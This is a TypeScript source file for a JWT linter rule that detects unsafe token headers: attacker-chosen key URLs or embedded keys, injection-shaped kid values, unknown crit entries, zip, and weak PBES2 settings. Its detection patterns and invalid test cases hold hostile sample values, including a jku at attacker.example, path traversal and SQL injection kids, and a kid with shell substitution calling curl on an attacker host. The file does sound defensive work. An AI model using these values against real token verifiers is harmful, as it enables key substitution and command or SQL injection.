import { describeToken } from '../analyze/describe.js';
import { ecKey, es256, jwk, publicJwk, unsignedShape } from './example-material.js';
import type { Rule } from './types.js';

const KEY_HEADERS: Record<string, string> = {
  jku: 'jku points to a key set URL the token chooses (server-side request forgery, key substitution)',
  x5u: 'x5u points to a certificate URL the token chooses (server-side request forgery, key substitution)',
  jwk: 'jwk embeds the signer\'s own key: a verifier that uses it accepts anyone\'s signature',
  x5c: 'x5c embeds the signer\'s own certificate chain: a verifier that trusts it without path validation accepts anyone\'s signature',
};

/** Header members jwt-guard understands in crit (RFC 7797's b64). */
const UNDERSTOOD_CRIT = new Set(['b64']);

/**
 * A kid shaped like an injection against key lookup: path traversal (`../`, `..\`) or a
 * well-known system path (`/dev/null`), quotes, `;`, `|`, NUL, shell substitution and
 * redirection, an SQL comment (`--` beside white space, `/*`), or SQL keywords in the order
 * an injection writes them. Not merely a slash or a plus: the kids real providers issue
 * are standard base64 (AWS Cognito, which may start with `/`), KMS ARNs, GCP KMS resource
 * paths and URLs.
 */
const KID_INJECTION = /(?:^|[/\\])\.\.(?:[/\\]|$)|^\/(?:dev|proc|etc|sys|tmp|var|root|home|usr|bin)\/|['"`;|<>\u0000]|\$[({]|&&|--\s|\s--|\/\*/;
/** SQL in a kid: keywords in the order an injection writes them, on white-space-separated words. */
const SQL_SHAPES = [['union', 'select'], ['select', 'from'], ['drop', 'table'], ['or', '1=1']];

function kidLooksInjected(kid: string): boolean {
  if (KID_INJECTION.test(kid)) return true;
  const words = kid.toLowerCase().split('=').map((part) => part.trim()).join('=').split(/\s+/);
  return SQL_SHAPES.some(([first, second]) => {
    const at = words.indexOf(first!);
    return at !== -1 && words.indexOf(second!, at + 1) !== -1;
  });
}

/** The media type a typ names, without `application/`, in lower case (RFC 7515 4.1.9). */
const mediaType = (typ: unknown) => (typeof typ === 'string' ? typ.toLowerCase().replace(/^application\//, '') : '');

/**
 * Tokens that must carry their signer's public key in `jwk`, where it is the point and not
 * an attack: DPoP proofs (RFC 9449 4.2), OpenID4VCI key proofs, and ACME requests (RFC 8555
 * 6.2, whose headers name `url` and `nonce`).
 */
function mustEmbedKey(header: Record<string, unknown>): boolean {
  const typ = mediaType(header.typ);
  if (typ === 'dpop+jwt' || typ === 'openid4vci-proof+jwt') return true;
  return typeof header.url === 'string' && typeof header.nonce === 'string';
}

/** JWK members that hold private or secret key material. */
const PRIVATE_MEMBERS = ['d', 'p', 'q', 'dp', 'dq', 'qi', 'oth', 'k'];

/** Every reason a token's header is unsafe. */
export function headerProblems(header: Record<string, unknown>, allowedKeyHeaders: readonly string[]): string[] {
  const problems: string[] = [];
  const embeds = mustEmbedKey(header);
  for (const [name, why] of Object.entries(KEY_HEADERS)) {
    if (header[name] === undefined || allowedKeyHeaders.includes(name)) continue;
    if (name === 'jwk' && embeds) continue;
    problems.push(`${why}; not in tokens.allowedKeyHeaders`);
  }
  const jwk = header.jwk;
  if (jwk && typeof jwk === 'object' && PRIVATE_MEMBERS.some((member) => member in jwk)) problems.push('its jwk holds private key members: a header key must be public, and this one is now everyone\'s');
  if (typeof header.kid === 'string' && (header.kid.length > 1024 || kidLooksInjected(header.kid))) problems.push('kid holds path traversal, a system file path, quotes, command or SQL characters (or is over 1024 characters long), the shape of an injection attempt against key lookup');
  if (header.crit !== undefined) {
    const crit = Array.isArray(header.crit) ? header.crit : [header.crit];
    const unknown = crit.filter((entry) => typeof entry !== 'string' || !UNDERSTOOD_CRIT.has(entry));
    if (unknown.length > 0 || crit.length === 0) problems.push(`crit lists ${unknown.length > 0 ? unknown.map((u) => `'${String(u).slice(0, 40)}'`).join(', ') : 'nothing'}, which verifiers must refuse unless they understand it (RFC 7515 4.1.11)`);
  }
  if (header.zip !== undefined) {
    problems.push(
      header.enc !== undefined
        ? 'zip compresses before encrypting, which leaks plaintext through length (RFC 8725 3.6)'
        : 'zip on a JWS is not standard (RFC 7516 defines it for JWE only): the payload is compressed in a way verifiers that follow RFC 7515 do not undo, and decompressing what a token says invites decompression bombs',
    );
  }
  if (typeof header.alg === 'string' && header.alg.startsWith('PBES2')) {
    const p2c = header.p2c;
    const salt = typeof header.p2s === 'string' ? Buffer.from(header.p2s, 'base64url').length : 0;
    if (typeof p2c !== 'number' || p2c < 1000) problems.push(`PBES2 with ${typeof p2c === 'number' ? p2c : 'no'} iterations (p2c); at least 1000 are needed (RFC 7518 4.8.1.2)`);
    if (salt < 8) problems.push(`PBES2 with a ${salt}-byte salt (p2s); at least 8 bytes are needed (RFC 7518 4.8.1.1)`);
  }
  return problems;
}

export const insecureHeader: Rule = {
  meta: {
    id: 'insecure-header',
    description: 'A token header with jku, x5u, jwk or x5c not allowed by policy (jwk is expected in DPoP proofs and ACME requests, if public), a kid shaped like an injection, an unknown crit, zip, or weak PBES2 parameters.',
    defaultSeverity: 'error',
    securitySeverity: 7.5,
    help: [
      'A token must not choose the key it is verified with: `jku` and `x5u` point to URLs an attacker controls (server-side request forgery, key substitution), `jwk` and `x5c` embed the attacker\'s own key. A `kid` containing path separators, `..`, quotes, `;`, `|` or SQL is an injection attempt against key lookup. An unknown `crit` entry must make verifiers refuse the token; `zip` leaks plaintext through compression; PBES2 needs at least 1000 iterations and an 8-byte salt.',
      '',
      '**What to do:** verifiers pick keys from their own configuration by `kid`, never from the token; issuers stop emitting these headers. If a key header is genuinely needed, allow it in `tokens.allowedKeyHeaders`.',
    ].join('\n'),
    messages: {
      unsafe: '{token} has an unsafe header: {problems}.',
      refused: '{problem}',
    },
  },
  check({ facts, policy }) {
    if (facts.kind !== 'token') return [];
    const problems = headerProblems(facts.header, policy.tokens.allowedKeyHeaders);
    if (problems.length === 0) return [];
    return [{ messageId: 'unsafe', data: { token: describeToken(facts), problems: problems.join('; ') } }];
  },
  verifyHeader({ facts, policy }) {
    const [problem] = headerProblems(facts.header, policy.tokens.allowedKeyHeaders);
    return problem ? { messageId: 'refused', data: { problem } } : undefined;
  },
  examples: {
    valid: [
      { name: 'a kid that is an RFC 7638 thumbprint', text: () => es256(undefined, { kid: 'NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs' }) },
      { name: 'a jku the policy allows', text: () => unsignedShape({ alg: 'ES256', jku: 'https://id.example.test/jwks.json' }), policy: { tokens: { allowedKeyHeaders: ['jku'] } } },
      ...[
        ['standard base64, as AWS Cognito issues (it may start with a slash)', '/Ab+cD9eFgHiJkLmNoPqRsTuVwXyZ0123456789ab='],
        ['an AWS KMS key ARN', 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab'],
        ['a GCP KMS key version', 'projects/example/locations/global/keyRings/ring/cryptoKeys/signing/cryptoKeyVersions/1'],
        ['a URL', 'https://id.example.test/keys/2026-01#sig'],
      ].map(([what, kid]) => ({ name: `a kid that is ${what}`, text: () => es256(undefined, { kid }) })),
      { name: 'a DPoP proof, which must embed its public key (RFC 9449)', text: () => es256({ htm: 'POST', htu: 'https://id.example.test/token', iat: 1_800_000_000, jti: 'p1' }, { typ: 'dpop+jwt', jwk: publicJwk(ecKey()) }) },
      { name: 'an ACME request, which embeds its account key (RFC 8555)', text: () => es256({}, { jwk: publicJwk(ecKey()), nonce: 'n1', url: 'https://acme.example.test/new-account' }) },
    ],
    invalid: [
      { name: 'a token that names its own key URL', text: () => unsignedShape({ alg: 'RS256', jku: 'https://attacker.example/jwks.json' }), messageId: 'unsafe' },
      { name: 'an embedded jwk', text: () => unsignedShape({ alg: 'ES256', jwk: publicJwk(ecKey()) }), messageId: 'unsafe' },
      { name: 'a kid shaped like path traversal', text: () => unsignedShape({ alg: 'HS256', kid: '../../dev/null' }), messageId: 'unsafe' },
      { name: 'a kid shaped like SQL', text: () => unsignedShape({ alg: 'HS256', kid: "x' UNION SELECT 'key" }), messageId: 'unsafe' },
      { name: 'a kid naming a system file', text: () => es256(undefined, { kid: '/dev/null' }), messageId: 'unsafe' },
      { name: 'a kid with shell substitution', text: () => es256(undefined, { kid: 'key$(curl attacker.example)' }), messageId: 'unsafe' },
      { name: 'a DPoP proof whose jwk holds the private key', text: async () => es256({ htm: 'POST', htu: 'https://id.example.test/token', iat: 1_800_000_000, jti: 'p2' }, { typ: 'dpop+jwt', jwk: jwk(ecKey()) }), messageId: 'unsafe' },
      { name: 'zip on a JWS', text: () => es256(undefined, { zip: 'DEF' }), messageId: 'unsafe' },
      { name: 'an unknown crit', text: () => unsignedShape({ alg: 'ES256', crit: ['exp'], exp: 1 }), messageId: 'unsafe' },
      { name: 'a checked token with an embedded jwk', mode: 'verify', text: () => es256(undefined, { jwk: publicJwk(ecKey()) }), messageId: 'refused' },
    ],
  },
};
